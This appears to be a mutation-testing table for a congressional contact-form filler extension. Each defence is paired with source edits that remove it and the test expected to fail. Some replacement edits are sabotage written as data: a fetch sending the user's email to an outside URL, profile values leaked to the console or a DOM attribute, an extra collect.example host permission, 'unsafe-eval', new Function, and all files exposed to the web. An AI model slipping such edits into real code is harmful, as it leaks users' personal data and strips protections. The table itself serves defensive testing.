/**
 * Each defence, the edit that takes it out (`[file, text, text instead]`), and the test that must fail then: `run` is a
 * spec of Playwright, a file of vitest (`unit`), a test in Firefox, or a check of the built files; `only` picks its tests.
 */
const hostile = (only) => ({ run: 'playwright', file: 'tests/e2e/hostile.spec.ts', only });
const playwright = (name, only) => ({ run: 'playwright', file: `tests/e2e/${name}.spec.ts`, only });
const unit = (file, only) => ({ run: 'unit', file: `tests/unit/${file}.test.ts`, only });
const firefox = (name) => ({ run: 'firefox', file: `tests/e2e/firefox/${name}.test.mjs` });
const MANIFEST = 'wxt.config.ts';
const VISIBILITY = 'entrypoints/form-filler/visibility.ts';
const NEWS = 'entrypoints/background/actions/tab-news.ts';
const ROUTER = 'entrypoints/background/router.ts';
const FRAMES = 'entrypoints/background/fill/frames.ts';
const WRITE = 'entrypoints/form-filler/write-steps.ts';

export const DEFENCES = [
  [
    'a click counts for its office’s host alone',
    playwright('bounds', 'led to another'),
    [NEWS, 'if (!ours || isUncovering(view.plan)) return;', 'if (isUncovering(view.plan)) return;'],
    [NEWS, 'if (isElsewhere(view, office, table))', 'if (false as boolean)'],
  ],
  [
    'a click runs out',
    playwright('bounds', 'has run out'),
    [NEWS, 'const clicked = Date.now() < action.clickExpires;', 'const clicked = true as boolean;'],
  ],
  [
    'pages may ask for nothing',
    playwright('bounds', 'takes over'),
    [ROUTER, 'if (tabId !== undefined && isContactFrame(sender)) {', 'if (tabId === -5) {'],
    [ROUTER, 'if (!isOwnScreen(sender) || !', 'if (!'],
  ],
  [
    'content scripts cannot read the store',
    playwright('bounds', 'takes over'),
    [
      'entrypoints/background/index.ts',
      'void browser.storage.local.setAccessLevel',
      'void (browser.storage.local as { no?: (how: object) => unknown }).no',
    ],
  ],
  [
    'frames count only inside House and Senate frames',
    hostile('office in another site'),
    [FRAMES, 'return frame.ancestors.every((origin) => congressOf(origin) !== undefined)', 'return true'],
  ],
  [
    'sandboxed frames are nobody’s',
    hostile('sandboxed'),
    ['entrypoints/form-filler/index.ts', "origin === 'null' ? [origin] : ", ''],
  ],
  [
    'only House and Senate pages',
    hostile('frame of another site inside'),
    [FRAMES, '.filter((frame) => congressOf(frame.url))', ''],
    [FRAMES, 'if (!congressOf(frame.snapshot.url)) return false;', ''],
    [MANIFEST, 'host_permissions: GOV', "host_permissions: [...GOV, 'https://collect.example/*']"],
  ],
  [
    'look-alike hosts',
    hostile('look-alike'),
    ['core/forms/congress-host.ts', '/(?:^|\\.)(house|senate)\\.gov$/', '/(house|senate)\\.gov/'],
    [MANIFEST, 'host_permissions: GOV', "host_permissions: [...GOV, 'https://*.example.org/*']"],
  ],
  [
    'forms that are sent elsewhere',
    hostile('sent elsewhere: another site'),
    ['core/forms/recognise-excluded.ts', "    : 'foreign-action';", '    : undefined;'],
  ],
  [
    'forms that are sent without encryption',
    hostile('sent elsewhere: without'),
    ['core/forms/recognise-excluded.ts', "    ? 'insecure'", '    ? undefined'],
  ],
  [
    'buttons with an address of their own',
    hostile('formaction|button’s own|button outside'),
    ['entrypoints/form-filler/action-of.ts', "buttons.map((button) => attr(button, 'formaction'))", '[]'],
  ],
  [
    'a form that turns in mid-fill',
    hostile('where the (form|button) goes'),
    [WRITE, 'const moved = area !== undefined && actionOf(area) !== action;', 'const moved = false;'],
  ],
  ['hidden: opacity', hostile('trap: opacity'), [VISIBILITY, 'Number(style.opacity) < FAINT', 'false']],
  ['hidden: filter', hostile('faded by a filter'), [VISIBILITY, 'FADED.test(style.filter)', 'false']],
  ['hidden: mask', hostile('trap: masked'), [VISIBILITY, 'MASKED.test(style.maskImage)', 'false']],
  ['hidden: zoom', hostile('zoomed away'), [VISIBILITY, 'if (Number(style.zoom) < FAINT)', 'if (false as boolean)']],
  ['hidden: off the page', hostile('far to the left|far above'), [VISIBILITY, 'if (outside || ', 'if (']],
  [
    'hidden: no size',
    hostile('trap: one pixel|trap: scaled'),
    [VISIBILITY, 'if (box.width < TINY || box.height < TINY) return', 'if (box.width < -1) return'],
    [
      VISIBILITY,
      'if (clip[2] - clip[0] < TINY || clip[3] - clip[1] < TINY) return',
      'if (clip[2] - clip[0] < -99_999) return',
    ],
  ],
  [
    'hidden: visibility',
    hostile('trap: visibility hidden'),
    [VISIBILITY, "if (style.visibility !== 'visible') return 'visibility';", ''],
  ],
  [
    'hidden: covered',
    hostile('covered by a block'),
    [VISIBILITY, "return isCovered(control, box) ? 'covered' : undefined;", 'return undefined;'],
  ],
  ['hidden: inert', hostile('trap: inert'), [VISIBILITY, "if (has(element, 'inert')) return hidden('inert');", '']],
  [
    'the panel’s tree is closed',
    hostile('looks into the panel'),
    ['entrypoints/status-panel/panel.ts', "mode: 'closed'", "mode: 'open'"],
  ],
  [
    'no file of the package is open to the web',
    hostile('fetches the extension'),
    [
      MANIFEST,
      'content_security_policy:',
      "web_accessible_resources: [{ resources: ['*'], matches: ['<all_urls>'] }],\n    content_security_policy:",
    ],
  ],
  [
    'nothing is pressed for the person',
    playwright('main-job', 'one click fills'),
    [
      WRITE,
      'changes.disconnect();',
      'changes.disconnect();\n  (area as HTMLFormElement | undefined)?.requestSubmit?.();',
    ],
  ],
  [
    'a word of the profile on the console is seen',
    playwright('leak'),
    [WRITE, 'const before = outline();', 'const before = outline();\n  console.log(JSON.stringify(steps));'],
  ],
  [
    'a word of the profile in an attribute is seen',
    playwright('leak'),
    [
      WRITE,
      'results.set(step.ref, await writeControl(element, step));',
      "results.set(step.ref, await writeControl(element, step));\n    if (step.kind === 'type') element.setAttribute('data-x', step.value);",
    ],
  ],
  [
    'a word of the profile in a request is seen',
    playwright('leak'),
    [
      NEWS,
      'if (isDone(delivery)) return;',
      'if (isDone(delivery)) return;\n  void fetch(`https://unitedstates.github.io/x?e=${context.request.values.email}`).catch(() => undefined);',
    ],
  ],
  [
    'receipts hold no address',
    playwright('leak'),
    [
      'entrypoints/background/receipts/keep.ts',
      'title: alert.title,',
      "title: `${alert.title} ${request.values['address-line1']}`,",
    ],
  ],
  [
    'pages taken back under way are said at once',
    playwright('permissions', 'under way'),
    [
      'entrypoints/background/actions/check.ts',
      'event.addListener(() => void checkDeliveries(Date.now()));',
      'void event;',
    ],
  ],
  [
    'given again, an open tab is gone on with',
    playwright('permissions', 'under way'),
    [
      'entrypoints/background/actions/check.ts',
      "if (delivery.failure === 'no-permission' && (await mayFill()))",
      "if ((delivery.failure as string) === 'never')",
    ],
    [
      'entrypoints/background/actions/check.ts',
      '[browser.permissions.onAdded, browser.permissions.onRemoved]',
      '[browser.permissions.onRemoved]',
    ],
  ],
  [
    'pages taken back are said in Chrome',
    playwright('permissions', 'asks again'),
    ['entrypoints/popup/notices.tsx', '{!allowed.value && (', '{(allowed.value as unknown) === 0 && ('],
  ],
  ['permission: activeTab', playwright('permissions', 'read after the press'), [MANIFEST, ", 'activeTab'", '']],
  ['private windows', firefox('private-window'), [MANIFEST, "incognito: 'not_allowed',", '']],
  [
    // Two checks cover each other: of the tab's address, and of what could be read.
    'permission withdrawn is said',
    firefox('permission'),
    ['entrypoints/background/fill/target.ts', 'url === undefined || !congressOf(url)', 'url === null'],
    [
      'entrypoints/background/fill/requests.ts',
      "if (!view) return err('no-access');",
      "if (!view) return err('no-form');",
    ],
  ],
  ['frames in Firefox', firefox('frames'), [FRAMES, 'if (frame.frameId === 0) return true;', 'return true;']],
  [
    'strict policy for code',
    { run: 'check', file: 'tools/check/bundles.mjs' },
    [MANIFEST, "script-src 'self';", "script-src 'self' 'unsafe-eval';"],
  ],
  [
    'no code from text',
    { run: 'check', file: 'tools/check/bundles.mjs' },
    ['entrypoints/background/index.ts', 'registerReach();', "registerReach();\n  new Function('return 1')();"],
  ],
  [
    'broken entries are dropped alone',
    unit('storage/stored-item', 'keeps what is good'),
    [
      'core/storage/salvage.ts',
      "if (def.type === 'array' && Array.isArray(value))",
      "if (def.type === 'array' && value === 0 && Array.isArray(value))",
    ],
  ],
  [
    'broken parts are set aside',
    unit('storage/stored-item', 'sets aside'),
    ['core/storage/troubles.ts', 'const all = [...before, ...parts];', 'const all = [...before];'],
  ],
  [
    'older stores are brought along',
    unit('storage/read-stored', 'every step'),
    [
      'core/storage/read-stored.ts',
      'value = shape.migrations[next]?.run(value) ?? value;',
      'value = next < 0 ? undefined : value;',
    ],
  ],
  [
    'changes happen in one step',
    unit('storage/stored-item', 'one step'),
    ['utils/stored-item.ts', 'navigator.locks.request(`store ${name}`, run) as Promise<T>', 'run()'],
  ],
  [
    'a full store loses nothing',
    unit('storage/stored-item', 'takes no more'),
    ['utils/stored-item.ts', 'if (!isFull(error)) throw error;', 'return;'],
  ],
  [
    'giant files are refused',
    unit('storage/backup'),
    ['core/storage/backup.ts', 'if (text.length > LARGEST)', 'if (text.length < 0)'],
  ],
  ['an import brings no tabs and no clicks', unit('storage/backup'), ['core/storage/join.ts', 'clickExpires: 0,', '']],
  ['permission: storage', playwright('bounds', 'is filled on'), [MANIFEST, "'storage', ", '']],
  ['permission: alarms', playwright('main-job', 'one click fills'), [MANIFEST, "'alarms', ", '']],
  ['permission: scripting', playwright('bounds', 'is filled on'), [MANIFEST, "'scripting', ", '']],
  ['permission: contextMenus', playwright('bounds', 'context menu'), [MANIFEST, ", 'contextMenus'", '']],
  ['permission: *.senate.gov', playwright('bounds', 'is filled on'), [MANIFEST, ", 'https://*.senate.gov/*'", '']],
  ['permission: *.house.gov', playwright('main-job', 'one click fills'), [MANIFEST, "'https://*.house.gov/*', ", '']],
].map(([defence, test, ...edits]) => ({ defence, test, edits }));
